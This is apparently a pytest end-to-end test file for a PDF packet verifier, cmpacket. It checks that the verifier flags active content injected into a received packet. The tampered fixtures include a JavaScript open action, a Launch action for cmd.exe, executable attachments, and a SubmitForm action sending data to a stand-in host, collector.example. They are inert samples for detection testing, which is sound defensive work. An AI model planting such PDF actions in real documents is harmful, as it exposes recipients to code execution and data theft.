"""Active content added to a received packet (issue 27): `verify` names what a viewer would run,
launch or open, and where (`packet-active-content`); what cmpacket itself writes is never flagged."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.conftest import packet_of

pytestmark = pytest.mark.e2e

CODE = "packet-active-content"
ADVICE = (
    "A packet cmpacket builds never holds active content: this was added after the build. Do not "
    "open the file in a PDF viewer; ask the sender for the original."
)


def _tampered(built: Path, tmp_path: Path, change: Callable[[pikepdf.Pdf], None]) -> Path:
    target = tmp_path / "received.pdf"
    with pikepdf.open(packet_of(built)) as pdf:
        change(pdf)
        pdf.save(target)
    return target


def _active(cli: Any, path: Path) -> list[dict[str, Any]]:
    """Runs `cmpacket verify --format json`; asserts exit 1; returns the active-content findings."""
    result = cli("verify", path, "--format", "json")
    assert result.code == 1, result.out
    found = [f for f in result.json()["findings"] if f["code"] == CODE]
    assert found and all(f["severity"] == "error" for f in found)
    return found


def _said(found: list[dict[str, Any]]) -> list[str]:
    return [f"{f['path']}: {f['message']}" for f in found]


def _script(pdf: pikepdf.Pdf, code: str = "app.alert('hello')") -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def test_the_untouched_packet_has_no_active_content(built: Path, cli: Any) -> None:
    result = cli("verify", packet_of(built), "--format", "json")
    assert result.code == 0
    assert CODE not in {f["code"] for f in result.json()["findings"]}


def test_a_javascript_open_action_is_named(built: Path, tmp_path: Path, cli: Any) -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = _script(pdf)

    found = _active(cli, _tampered(built, tmp_path, change))
    assert _said(found) == [
        "catalog: the catalog's OpenAction runs JavaScript. A packet cmpacket builds never holds "
        "active content: this was added after the build. Do not open the file in a PDF viewer; "
        "ask the sender for the original."
    ]
    text = cli("verify", tmp_path / "received.pdf")
    assert text.code == 1 and f"[{CODE}]" in text.out and "OpenAction runs JavaScript" in text.out


def test_a_launch_action_on_a_page_annotation_is_named(
    built: Path, tmp_path: Path, cli: Any
) -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        link = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 72, 200, 90]),
            A=Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe")),
        )
        page = pdf.pages[11]
        page.obj.Annots = pdf.make_indirect(Array([*page.obj.get("/Annots", Array()), link]))

    found = _active(cli, _tampered(built, tmp_path, change))
    assert _said(found) == [
        "page 12: page 12 has a Link annotation whose action (/A) launches a file or program "
        "'C:\\Windows\\System32\\cmd.exe'. A packet cmpacket builds never holds active content: "
        "this was added after the build. Do not open the file in a PDF viewer; ask the sender "
        "for the original."
    ]


def test_document_scripts_in_the_names_tree_are_named(
    built: Path, tmp_path: Path, cli: Any
) -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        tree = Dictionary(Names=Array([String("init"), _script(pdf)]))
        pdf.Root.Names.JavaScript = pdf.make_indirect(tree)

    found = _active(cli, _tampered(built, tmp_path, change))
    assert len(found) == 1 and found[0]["path"] == "catalog"
    assert found[0]["message"].startswith(
        "the catalog's document scripts (/Names /JavaScript) hold 1 script(s) ('init'), which a "
        "viewer runs when the packet opens."
    )


def test_an_extra_attached_file_is_named_and_the_manifest_is_not(
    built: Path, tmp_path: Path, cli: Any
) -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="invoice.exe")
        pdf.attachments["invoice.exe"] = spec

    found = _active(cli, _tampered(built, tmp_path, change))
    assert len(found) == 1 and found[0]["path"] == "catalog"
    assert "an attached file 'invoice.exe' (/Names /EmbeddedFiles)" in found[0]["message"]
    assert "manifest.json'" not in found[0]["message"]


def test_pdf_2_associated_files_on_the_catalog_and_a_page_are_named(
    built: Path, tmp_path: Path, cli: Any
) -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="payload.exe")
        pdf.Root.AF = Array([spec.obj])
        pdf.pages[2].obj.AF = Array([pdf.make_indirect(Dictionary(Type=Name.Filespec))])

    said = _said(_active(cli, _tampered(built, tmp_path, change)))
    assert said == [
        f"catalog: the catalog has associated files (/AF): 'payload.exe'. No hash of the manifest "
        f"covers them, and a viewer offers to open them. {ADVICE}",
        f"page 3: page 3 has associated files (/AF): 'a file without a name'. No hash of the "
        f"manifest covers them, and a viewer offers to open them. {ADVICE}",
    ]


def test_page_triggers_field_scripts_and_xfa_are_named(
    built: Path, tmp_path: Path, cli: Any
) -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[2].obj.AA = Dictionary(O=_script(pdf))
        field = pdf.make_indirect(
            Dictionary(FT=Name.Tx, T=String("total"), AA=Dictionary(K=_script(pdf)))
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp/>"))

    said = _said(_active(cli, _tampered(built, tmp_path, change)))
    assert any(
        s.startswith("page 3: page 3's action when the page opens (/AA /O) runs") for s in said
    )
    assert any(
        s.startswith("form: form field 'total''s action on each keystroke (/AA /K) runs JavaScript")
        for s in said
    )
    assert any(s.startswith("catalog: the catalog's form (/AcroForm /XFA) is an XFA") for s in said)


def test_a_next_chain_is_walked_and_a_cycle_ends(built: Path, tmp_path: Path, cli: Any) -> None:
    """A harmless open action (a GoTo) whose /Next leads to a script and loops back to itself."""

    def change(pdf: pikepdf.Pdf) -> None:
        goto = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
        submit = pdf.make_indirect(
            Dictionary(S=Name.SubmitForm, F=String("https://collector.example/x"), Next=goto)
        )
        goto.Next = Array([_script(pdf), submit])
        pdf.Root.OpenAction = goto

    said = _said(_active(cli, _tampered(built, tmp_path, change)))
    assert len(said) == 2
    assert said[0].startswith(
        "catalog: the catalog's OpenAction (action 2 of its /Next chain) runs JavaScript."
    )
    assert said[1].startswith(
        "catalog: the catalog's OpenAction (action 3 of its /Next chain) sends form data "
        "'https://collector.example/x'."
    )


def test_links_cmpacket_writes_pass_and_foreign_ones_do_not(
    built: Path, tmp_path: Path, cli: Any
) -> None:
    """A URI link and a page-showing open action pass; a link to a file outside the packet and an
    open action that calls a web address as the packet opens do not."""

    def link(action: Dictionary) -> Dictionary:
        return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)

    def harmless(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
        uri = link(Dictionary(S=Name.URI, URI=String("https://www.illinois.gov/")))
        pdf.pages[4].obj.Annots = pdf.make_indirect(Array([uri]))

    passed = cli("verify", _tampered(built, tmp_path, harmless), "--format", "json")
    assert CODE not in {f["code"] for f in passed.json()["findings"]}

    def foreign(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://tracker.example/open"))
        remote = link(Dictionary(S=Name.GoToR, F=String("\\\\host\\share\\x.pdf"), D=Array([0])))
        pdf.pages[4].obj.Annots = pdf.make_indirect(Array([remote]))

    said = _said(_active(cli, _tampered(built, tmp_path, foreign)))
    assert said[0].startswith(
        "catalog: the catalog's OpenAction opens a web address 'https://tracker.example/open'."
    )
    assert said[1].startswith(
        "page 5: page 5 has a Link annotation whose action (/A) opens another file "
        "'\\\\host\\share\\x.pdf'."
    )


def test_loops_and_long_chains_end_with_a_finding(built: Path, tmp_path: Path, cli: Any) -> None:
    """A name tree whose kids loop back to it and a trigger chaining 100 harmless actions: the
    walk ends, the attached file in the loop is named once, the chain past 64 steps is a finding."""

    def change(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"#!/bin/sh\n", filename="run.sh")
        node = pdf.make_indirect(Dictionary(Names=Array([String("run.sh"), spec.obj])))
        node.Kids = Array([node])
        pdf.Root.Names.EmbeddedFiles.Kids = Array([node])
        chain = pdf.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage))
        for _ in range(99):
            chain = pdf.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage, Next=chain))
        pdf.Root.AA = Dictionary(WP=chain)

    said = _said(_active(cli, _tampered(built, tmp_path, change)))
    assert sum("an attached file 'run.sh'" in s for s in said) == 1
    assert any(
        s.startswith(
            "catalog: the catalog's action before it is printed (/AA /WP) chains more than 64 "
            "actions (/Next); the rest were not checked."
        )
        for s in said
    )
